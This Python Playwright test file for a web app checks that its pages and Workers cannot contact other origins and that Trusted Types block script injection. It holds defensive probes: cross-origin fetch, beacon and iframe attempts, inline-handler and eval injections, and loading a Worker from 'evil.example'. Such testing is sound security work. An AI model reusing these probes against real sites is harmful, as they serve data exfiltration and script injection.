"""Nothing leaves this origin: the page and its Workers try, and fail, except the one Worker that downloads."""

import re
from contextlib import contextmanager
from html.parser import HTMLParser

import pytest
from playwright.sync_api import expect

from voxtab.native.server.app import application
from voxtab.native.server.run import serving
from voxtab.native.server.site import Site
from web.conftest import CHECKOUT, developer_tools

WEB = CHECKOUT / "web"
# The scripts of all Workers, as addresses below the site.
STARTED = re.compile(r'(?:Sibling|startWorker|Checker)\((?:new URL\()?"([\w./-]+\.js)"')
WORKERS = sorted(
    {
        (path.parent / script).resolve().relative_to(WEB).as_posix()
        for path in WEB.rglob("*.js")
        for script in STARTED.findall(path.read_text(encoding="utf-8"))
    }
)
DOWNLOADS = "worker/weights/reader.js"
# Each tries to reach another origin in its own way, and resolves with whether it could.
TRY = """async (elsewhere) => {
    const reached = async (attempt) => { try { return await attempt(); } catch { return false; } };
    const fetched = () => fetch(`${elsewhere}/files/by-fetch`, { mode: "no-cors" }).then(() => true);
    const asked = () => new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(true);
        request.onerror = () => resolve(false);
        request.open("GET", `${elsewhere}/files/by-request`);
        request.send();
    });
    const imported = () => import(`${elsewhere}/files/by-import.js`).then(() => true);
    const connected = () => new Promise((resolve) => {
        const socket = new WebSocket(`${elsewhere.replace("http", "ws")}/files/by-socket`);
        socket.onerror = () => resolve(false);
        setTimeout(resolve, 300, false);
    });
    if (globalThis.document) {
        navigator.sendBeacon(`${elsewhere}/files/by-beacon`, "x");
        new Image().src = `${elsewhere}/files/by-image`;
        document.body.append(Object.assign(document.createElement("iframe"), { src: `${elsewhere}/files/by-frame` }));
    }
    return Promise.all([fetched, asked, imported, connected].map(reached));
}"""


@contextmanager
def without_headers(server, site):
    """A host that sends none, such as GitHub Pages: the service worker has to do it."""
    yield f"{server.url}/site/"


@contextmanager
def without_service_worker(server, site):
    """voxtab serve, in a window without service workers: the host's headers have to do it."""
    with serving(application(Site(site), None)) as url:
        yield url


@contextmanager
def without_both(server, site):
    """A window without service workers, on a host that sends no headers: the page's own policy has to do it."""
    yield f"{server.url}/site/"


def test_all_workers_are_known():
    """Those that the page starts are all, as test_weights.py checks; this is how the test below finds them."""
    assert DOWNLOADS in WORKERS
    for script in (
        "worker/boot.js",
        "worker/weights/checker.js",
        "worker/weights/hasher.js",
        "worker/store/verifier.js",
        "worker/sessions/writer.js",
    ):
        assert script in WORKERS


# Of a name, a page has one policy: a module that a test imports beside the page's scripts gets theirs.
ONE_POLICY = """
    const create = TrustedTypePolicyFactory.prototype.createPolicy;
    const made = new Map();
    TrustedTypePolicyFactory.prototype.createPolicy = function (name, rules) {
        if (!made.has(name)) made.set(name, create.call(this, name, rules));
        return made.get(name);
    };
"""


@pytest.mark.parametrize("host", [without_headers, without_service_worker, without_both])
def test_nobody_leaves_but_the_worker_that_downloads(browser, server, site, elsewhere, host):
    with host(server, site) as url, browser.new_context() as context:
        page = context.new_page()
        developer_tools(page)  # Playwright asks only Chromium's Workers
        page.add_init_script(ONE_POLICY)
        if host is not without_headers:
            page.add_init_script("delete Navigator.prototype.serviceWorker")
        page.goto(url)
        expect(page.locator("html")).to_have_attribute("data-state", "ready", timeout=60000)
        if host is without_headers:
            reload_around_the_service_worker(page)
        # Drawn, so that the Workers which decode the recordings have ended.
        expect(page.locator("#demo-wave canvas").first).to_be_visible(timeout=60000)
        before = len(elsewhere.requests)
        assert page.evaluate(TRY, elsewhere.url) == [False] * 4
        for script in WORKERS:
            with page.expect_worker() as started:
                page.evaluate(
                    """async (script) => {
                        const { bindWorkers, startWorker } = await import("./modules/worker/start.js");
                        await bindWorkers();
                        window.tried = startWorker(new URL(script, document.baseURI));
                    }""",
                    script,
                )
            found = started.value.evaluate(f"({TRY})({elsewhere.url!r})")
            assert found == [script == DOWNLOADS] * 2 + [False, False], script
            if script != DOWNLOADS:
                assert elsewhere.requests[before:] == [], script
            page.evaluate("tried.terminate()")
            del elsewhere.requests[before:]


def reload_around_the_service_worker(page):
    """As a user does with Shift: the page is not controlled at first, and claims to be."""
    with page.expect_navigation():
        developer_tools(page).send("Page.reload", {"ignoreCache": True})
    expect(page.locator("html")).to_have_attribute("data-state", "ready", timeout=60000)
    assert page.evaluate("Boolean(navigator.serviceWorker.controller)")


def test_no_script_comes_from_a_text(browser, server):
    """Trusted Types: what could make a script of a text is refused, and Workers of another site too."""
    page = browser.new_page()
    page.add_init_script(ONE_POLICY)
    page.goto(f"{server.url}/site/")
    for attempt in (
        "document.body.innerHTML = '<b>'",
        "document.body.innerHTML = '<div onclick=\"1\">'",
        "document.body.innerHTML = '<style></style><script src=\"a.js\"></script>'",
        "eval('1')",
        "Function('1')",
        "new Worker('worker/boot.js')",
        "trustedTypes.createPolicy('other', {})",
        "import('./modules/worker/start.js').then((start) => start.startWorker(new URL('https://evil.example/a.js')))",
        "Object.assign(document.createElement('script'), { text: '1' })",
    ):
        # In a timer, because what Playwright calls may use eval.
        done = page.evaluate(
            f"""() => new Promise((resolve) => setTimeout(() => {{
                (async () => {attempt})().then(() => resolve(true), () => resolve(false));
            }}))"""
        )
        assert not done, attempt
    page.close()


def test_one_style_of_a_library_is_let_through(browser, server):
    """wavesurfer.js's, by its sum, and no other: a new version of the library may need another sum."""
    page = browser.new_page()
    page.goto(f"{server.url}/site/")
    expect(page.locator("#demo-wave canvas").first).to_have_css("position", "absolute", timeout=60000)
    other = "Object.assign(document.createElement('style'), { textContent: 'html { opacity: 0.5 }' })"
    page.evaluate(f"document.body.append({other})")
    expect(page.locator("html")).to_have_css("opacity", "1")
    page.close()


def test_no_script_or_style_is_in_the_page():
    """No inline script, handler or style: the policy would refuse them."""
    found = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            names = dict(attributes)
            found.extend(name for name in names if name.startswith("on") or name == "style")
            if tag == "style" or (tag == "script" and not names.get("src")):
                found.append(tag)

    for page in WEB.rglob("*.html"):
        Reader().feed(page.read_text(encoding="utf-8"))
    assert found == []
